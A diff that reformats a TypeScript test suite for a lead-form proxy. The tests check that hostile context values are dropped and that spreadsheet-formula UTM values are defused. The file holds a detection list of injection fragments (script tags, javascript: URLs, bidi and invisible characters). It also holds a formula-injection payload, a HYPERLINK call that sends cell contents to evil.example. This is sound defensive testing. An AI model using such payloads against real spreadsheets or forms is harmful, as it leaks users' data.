@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { post, SITE_ORIGIN, startHarness, type Harness } from '../testing/harness.ts';
+import { type Harness, post, SITE_ORIGIN, startHarness } from '../testing/harness.ts';
 import { listOutbox } from '../testing/outbox-cli.ts';
 import { TRIAL_FORMS_FILE } from '../testing/trial-forms-file.ts';
 
@@ -30,7 +30,11 @@ describe('submission context', () => {
   afterAll(() => harness.close());
 
   const submit = (context: Record<string, unknown>) =>
-    post(harness.proxy.url, { id: crypto.randomUUID(), fields: { first_name: 'Ada', last_name: 'Lovelace', email: 'ada@example.com' }, consent: { sms: { granted: true, version: smsVersion } }, context }, { formId: 'trial' });
+    post(
+      harness.proxy.url,
+      { id: crypto.randomUUID(), fields: { first_name: 'Ada', last_name: 'Lovelace', email: 'ada@example.com' }, consent: { sms: { granted: true, version: smsVersion } }, context },
+      { formId: 'trial' },
+    );
 
   it('keeps the lead and drops what breaks the rules: hostile URLs, controls, bidi, lone surrogates, invisible text, bad locales', async () => {
     const hostile: Array<Record<string, string>> = [
@@ -54,14 +58,20 @@ describe('submission context', () => {
     for (const attribute of ['signup_page', 'came_from', 'utm_source', 'utm_campaign', 'signup_locale', 'sms_consent_page']) {
       expect(contacts[0], attribute).not.toHaveProperty(attribute);
     }
-    const sent = (await harness.calls()).flatMap((call) => Object.values(call.body as Record<string, unknown>)).filter((value) => typeof value === 'string').join('\n');
+    const sent = (await harness.calls())
+      .flatMap((call) => Object.values(call.body as Record<string, unknown>))
+      .filter((value) => typeof value === 'string')
+      .join('\n');
     for (const fragment of ['javascript:', 'data:text', 'android-app', 'X-Injected', '\u0000', '\u202E', '\uD800', '\u200B', '<script>', 'enen']) {
       expect(sent, JSON.stringify(fragment)).not.toContain(fragment);
     }
   });
 
   it('defuses UTM values that a spreadsheet would run as a formula, keeping the campaign', async () => {
-    for (const [key, value] of [['utm_source', '=HYPERLINK("https://evil.example/?"&A1,"Click")'], ['utm_campaign', '-20% off']] as const) {
+    for (const [key, value] of [
+      ['utm_source', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
+      ['utm_campaign', '-20% off'],
+    ] as const) {
       const response = await submit({ [key]: value });
       expect(response.status, value).toBe(201);
       const [contact] = await harness.contacts();
